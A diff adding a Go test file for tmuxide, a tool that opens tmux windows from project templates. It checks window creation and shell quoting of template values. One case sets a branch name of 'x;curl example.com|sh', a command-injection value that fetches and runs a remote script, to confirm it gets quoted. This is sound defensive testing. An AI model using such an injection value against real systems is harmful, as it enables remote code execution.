@@ -0,0 +1,134 @@
+package cmd
+
+import (
+	"cmp"
+	"errors"
+	"testing"
+
+	"github.com/eskelinenantti/tmuxide/internal/layout"
+	"github.com/eskelinenantti/tmuxide/internal/project"
+	"github.com/eskelinenantti/tmuxide/internal/test/mock"
+	"github.com/eskelinenantti/tmuxide/internal/test/spy"
+)
+
+const templates = `{"templates": [
+	{
+		"name": "go",
+		"markers": ["go.mod"],
+		"windows": [
+			{"name": "test", "command": "go test ./..."},
+			{"name": "shell"}
+		]
+	},
+	{
+		"name": "node",
+		"markers": ["package.json"],
+		"windows": [
+			{"name": "dev.server", "command": "cd {{.Root}} && npm run dev -- --name {{.Name}} --branch {{.Branch}}"}
+		]
+	}
+]}`
+
+func TestTemplateWorkflow(t *testing.T) {
+	tests := []struct {
+		name          string
+		marker        string
+		template      string
+		branch        string
+		sessionExists bool
+		windows       func(dir, session string) [][]string
+	}{
+		{
+			name:   "creates windows of detected template",
+			marker: "go.mod",
+			windows: func(dir, session string) [][]string {
+				return [][]string{
+					{"tmux", "new-window", "-t", session + ":", "-c", dir, "-d", "-P", "-F", "#{window_index}", "-n", "test"},
+					{"tmux", "send-keys", "-t", session + ":1", "go test ./...", "Enter"},
+					{"tmux", "new-window", "-t", session + ":", "-c", dir, "-d", "-P", "-F", "#{window_index}", "-n", "shell"},
+				}
+			},
+		},
+		{
+			name:     "creates windows of given template",
+			marker:   "go.mod",
+			template: "node",
+			windows: func(dir, session string) [][]string {
+				return [][]string{
+					{"tmux", "new-window", "-t", session + ":", "-c", dir, "-d", "-P", "-F", "#{window_index}", "-n", "dev_server"},
+					{"tmux", "send-keys", "-t", session + ":1", "cd " + dir + " && npm run dev -- --name " + session + " --branch main", "Enter"},
+				}
+			},
+		},
+		{
+			name:     "quotes template values for the shell",
+			marker:   "go.mod",
+			template: "node",
+			branch:   "x;curl example.com|sh",
+			windows: func(dir, session string) [][]string {
+				return [][]string{
+					{"tmux", "new-window", "-t", session + ":", "-c", dir, "-d", "-P", "-F", "#{window_index}", "-n", "dev_server"},
+					{"tmux", "send-keys", "-t", session + ":1", "cd " + dir + " && npm run dev -- --name " + session + " --branch 'x;curl example.com|sh'", "Enter"},
+				}
+			},
+		},
+		{
+			name:   "does not create windows without template",
+			marker: "Cargo.toml",
+			windows: func(dir, session string) [][]string {
+				return nil
+			},
+		},
+		{
+			name:          "does not create windows in existing session",
+			marker:        "go.mod",
+			sessionExists: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Setenv("EDITOR", editor)
+			unsetenv(t, "TMUX")
+			writeConfig(t, templates)
+
+			dir := t.TempDir()
+			createFile(t, dir, tt.marker)
+			session := project.Name(dir)
+
+			var responses []spy.Response
+			if tt.template == "node" {
+				responses = append(responses, spy.Response{OnRun: mock.WriteToStdout(cmp.Or(tt.branch, "main") + "\n")})
+			}
+			expectedCalls := [][]string{{"tmux", "has-session", "-t", session + ":"}}
+			if !tt.sessionExists {
+				// The windows of the template are created at index 1
+				responses = append(responses, spy.Response{OnRun: mock.SimulateError}, spy.Response{}, spy.Response{OnRun: mock.WriteToStdout("1\n")})
+				expectedCalls = append(expectedCalls, []string{"tmux", "new-session", "-c", dir, "-d", "-s", session})
+				expectedCalls = append(expectedCalls, tt.windows(dir, session)...)
+			}
+			expectedCalls = append(expectedCalls, listPanes(session), []string{"tmux", "attach", "-t", session + ":"})
+			if tt.template == "node" {
+				expectedCalls = append([][]string{{"git", "-C", dir, "rev-parse", "--abbrev-ref", "HEAD"}}, expectedCalls...)
+			}
+
+			spyRunner := &spy.SpyRunner{Responses: responses}
+			err := Ide([]string{dir}, Options{Template: tt.template}, spyRunner, mock.Path{})
+			requireNoError(t, err)
+
+			requireCalls(t, expectedCalls, spyRunner.Calls)
+		})
+	}
+}
+
+func TestUnknownTemplate(t *testing.T) {
+	t.Setenv("EDITOR", editor)
+	writeConfig(t, templates)
+
+	spyRunner := &spy.SpyRunner{}
+	err := Ide([]string{t.TempDir()}, Options{Template: "python"}, spyRunner, mock.Path{})
+	if !errors.Is(err, layout.ErrUnknownTemplate) {
+		t.Fatalf("got=%v, want=%v", err, layout.ErrUnknownTemplate)
+	}
+	requireCalls(t, nil, spyRunner.Calls)
+}